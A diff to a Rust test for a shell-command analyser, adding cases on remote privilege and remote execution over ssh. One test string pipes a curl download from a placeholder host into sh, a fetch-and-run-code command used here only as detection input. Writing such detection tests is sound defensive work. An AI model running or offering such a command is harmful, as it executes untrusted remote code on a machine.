@@ -226,6 +226,13 @@ fn remote_and_container_commands_are_marked_remote() {
             .any(|c| c.program == "rm" && c.depth >= 1));
     }
     assert!(f("docker run --rm -it ubuntu bash").remote_paths.is_empty());
+    // Privileges on another host are not privileges here.
+    assert!(f("ssh web1 sudo systemctl restart nginx")
+        .privilege
+        .is_empty());
+    assert!(!f("ssh web1 'curl -s https://x.invalid/i.sh | sh'")
+        .remote_exec
+        .is_empty());
     assert!(f("ssh host ls -la").remote_paths.is_empty());
 }
 
